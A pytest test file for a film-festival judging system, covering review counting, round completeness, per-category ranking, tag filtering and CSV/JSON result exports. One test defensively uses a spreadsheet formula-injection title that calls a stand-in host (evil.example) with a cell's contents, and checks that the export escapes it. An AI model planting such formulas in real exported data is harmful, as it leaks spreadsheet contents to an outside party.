"""The results of a round: which reviews count, how complete the round is, the ranking within
each category, and the CSV and JSON exports."""

from __future__ import annotations

import csv
import io

import pytest

from festival.judging import conflicts, planning, results, screening
from festival.judging.enums import ConflictKind
from tests import factories
from tests.conftest import sign_in
from tests.judging.conftest import scores_of


def row_of(outcome, entry):
    return next(r for rows in outcome.rows.values() for r in rows if r.entry.id == entry.id)


def test_only_reviews_of_live_assignments_count(jury, jury_round):
    jury_round.reviews_per_film = 3
    entry = jury_round.entries[0]
    kept, recused, conflicted = (
        factories.make_assignment(jury_round, entry, juror) for juror in jury.jurors
    )
    factories.make_review(kept, scores_of(jury_round, 8, 8))
    factories.make_review(recused, scores_of(jury_round, 1, 1))
    factories.make_review(conflicted, scores_of(jury_round, 2, 2))

    planning.recuse(recused, actor=jury.programmer)
    conflicts.record_conflict(
        conflicted.reviewer, entry.film, ConflictKind.COLLABORATOR, actor=jury.programmer
    )
    outcome = results.results_of(jury_round)

    row = row_of(outcome, entry)
    assert (row.result.count, row.result.mean) == (1, 8.0)
    assert outcome.review_count == 1
    assert [j["juror"] for j in results.as_json(outcome)["jurors"]] == ["Juror 0"]


def test_a_draft_does_not_count(jury, jury_round):
    entry = jury_round.entries[0]
    factories.make_review(
        factories.make_assignment(jury_round, entry, jury.jurors[0]),
        scores_of(jury_round, 9, 9),
        submit=False,
    )

    outcome = results.results_of(jury_round)

    assert row_of(outcome, entry).result.count == 0
    assert row_of(outcome, entry).result.mean is None


def test_completeness_counts_reviews_in_against_reviews_needed(app, jury, jury_round):
    first, second, third = jury_round.entries[:3]
    for entry, jurors in ((first, jury.jurors[:2]), (second, jury.jurors[:1])):
        for juror in jurors:
            factories.make_review(factories.make_assignment(jury_round, entry, juror))
    for juror in jury.jurors:
        factories.make_review(factories.make_assignment(jury_round, third, juror))

    outcome = results.results_of(jury_round)

    assert outcome.needed_total == 8
    assert outcome.counted_total == 2 + 1 + 2
    assert outcome.review_count == 6
    assert row_of(outcome, first).result.is_complete
    assert not row_of(outcome, second).result.is_complete
    assert (row_of(outcome, third).result.count, row_of(outcome, third).result.needed) == (3, 2)
    page = sign_in(app.test_client(), jury.programmer).get(
        f"/manage/rounds/{jury_round.id}/results"
    )
    assert "5 of 8 reviews in." in page.get_data(as_text=True)


@pytest.fixture
def two_categories(jury):
    """A jury round over two films in each category, every film scored by two jurors."""
    feature = jury.edition.categories[1]
    for submission in jury.submissions[2:]:
        submission.category = feature
    round_ = factories.make_round(jury.edition, members=jury.jurors, submissions=jury.submissions)
    for entry, score in zip(round_.entries, (4, 9, 6, 8), strict=True):
        for juror in jury.jurors[:2]:
            assignment = factories.make_assignment(round_, entry, juror)
            factories.make_review(assignment, scores_of(round_, score, score))
    return round_


def test_films_are_ranked_within_their_category(jury, two_categories):
    short, feature = jury.edition.categories

    outcome = results.results_of(two_categories)

    assert set(outcome.rows) == {short.id, feature.id}
    ranked = {
        group: [(row.film.title, row.result.position) for row in rows]
        for group, rows in outcome.rows.items()
    }
    assert ranked[short.id] == [("Film 1", 1), ("Film 0", 2)]
    assert ranked[feature.id] == [("Film 3", 1), ("Film 2", 2)]


def test_the_csv_is_utf8_with_a_byte_order_mark_and_keeps_hangul_titles(app, jury, jury_round):
    jury.films[0].title = "고요한 바다: 등대지기의 노래"
    factories.make_review(
        factories.make_assignment(jury_round, jury_round.entries[0], jury.jurors[0])
    )
    staff = sign_in(app.test_client(), jury.programmer)

    response = staff.get(f"/manage/rounds/{jury_round.id}/results.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert f"round-{jury_round.id}-results.csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == list(results.EXPORT_COLUMNS)
    assert "고요한 바다: 등대지기의 노래" in [row["title"] for row in rows]
    scored = next(row for row in rows if row["title"] == "고요한 바다: 등대지기의 노래")
    assert (scored["category"], scored["reviews"], scored["needed"], scored["mean"]) == (
        "AI Short",
        "1",
        "2",
        "7.0",
    )


def test_the_csv_ranks_each_category_from_one(jury, two_categories):
    body = results.as_csv(results.results_of(two_categories)).decode("utf-8-sig")

    rows = list(csv.DictReader(io.StringIO(body, newline="")))

    assert [(r["category"], r["position"], r["title"]) for r in rows] == [
        ("AI Short", "1", "Film 1"),
        ("AI Short", "2", "Film 0"),
        ("AI Feature", "1", "Film 3"),
        ("AI Feature", "2", "Film 2"),
    ]


def test_the_json_export_has_the_round_the_scale_the_films_and_the_jurors(
    app, jury, two_categories
):
    staff = sign_in(app.test_client(), jury.programmer)

    data = staff.get(f"/manage/rounds/{two_categories.id}/results.json").get_json()

    assert set(data) == {"round", "scale", "tie_rule", "noise_sd", "films", "jurors"}
    assert data["round"] == {"id": two_categories.id, "name": two_categories.name}
    assert data["scale"] == [1.0, 10.0]
    assert isinstance(data["tie_rule"], str) and data["tie_rule"]
    assert len(data["films"]) == 4
    assert all(set(film) == set(results.EXPORT_COLUMNS) for film in data["films"])
    assert {j["juror"] for j in data["jurors"]} == {"Juror 0", "Juror 1"}
    assert all(set(j) == {"juror", "reviews", "mean", "offset"} for j in data["jurors"])
    assert {j["reviews"] for j in data["jurors"]} == {4}


def test_the_results_page_lists_every_category(app, jury, two_categories):
    page = sign_in(app.test_client(), jury.programmer).get(
        f"/manage/rounds/{two_categories.id}/results"
    )

    text = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "AI Short" in text and "AI Feature" in text
    assert text.index("Film 1") < text.index("Film 0")


def test_the_ranking_can_be_narrowed_to_a_tag_keeping_the_whole_rankings_positions(app, jury):
    round_ = factories.make_round(
        jury.edition, members=jury.jurors, submissions=jury.submissions, reviews_per_film=1
    )
    for n, entry in enumerate(round_.entries):
        assignment = factories.make_assignment(round_, entry, jury.jurors[0])
        factories.make_review(assignment, scores={c.id: 2 + 2 * n for c in round_.criteria})
    screening.set_tags(jury.submissions[1], ["strong-vfx"], actor=jury.programmer)
    client = sign_in(app.test_client(), jury.programmer)

    page = client.get(f"/manage/rounds/{round_.id}/results?tag=strong-vfx").get_data(as_text=True)

    assert jury.films[1].title in page
    assert all(film.title not in page for i, film in enumerate(jury.films) if i != 1)


def test_a_title_written_as_a_formula_is_exported_as_text(app, jury, jury_round):
    jury.films[0].title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    factories.make_review(
        factories.make_assignment(jury_round, jury_round.entries[0], jury.jurors[0])
    )

    body = results.as_csv(results.results_of(jury_round)).decode("utf-8-sig")

    titles = [row["title"] for row in csv.DictReader(io.StringIO(body, newline=""))]
    assert "'" + jury.films[0].title in titles
    assert not any(title.startswith("=") for title in titles)


def test_the_desks_light_ranking_is_the_pages_ranking(jury, jury_round):
    from festival.submissions import workflow

    jury_round.reviews_per_film = 3
    for entry, values in zip(jury_round.entries, ((8, 6), (3, 9), (7, 7), (5, 2)), strict=True):
        for juror, shift in zip(jury.jurors, (0, 1, -2), strict=True):
            assignment = factories.make_assignment(jury_round, entry, juror)
            scores = scores_of(jury_round, *(max(1, min(10, v + shift)) for v in values))
            factories.make_review(assignment, scores, submit=juror is not jury.jurors[2])
    recused = jury_round.entries[1].assignments[0]
    planning.recuse(recused, actor=jury.programmer)
    workflow.change_status(
        jury_round.entries[3].submission, "disqualified", actor=jury.programmer, reason="Rules"
    )

    page = {
        row.entry.submission_id: row.result
        for rows in results.results_of(jury_round).rows.values()
        for row in rows
    }
    light = results.ranking_by_submission(jury_round)

    assert light.keys() == page.keys() and len(light) == 3
    for submission_id, result in page.items():
        assert light[submission_id] == result
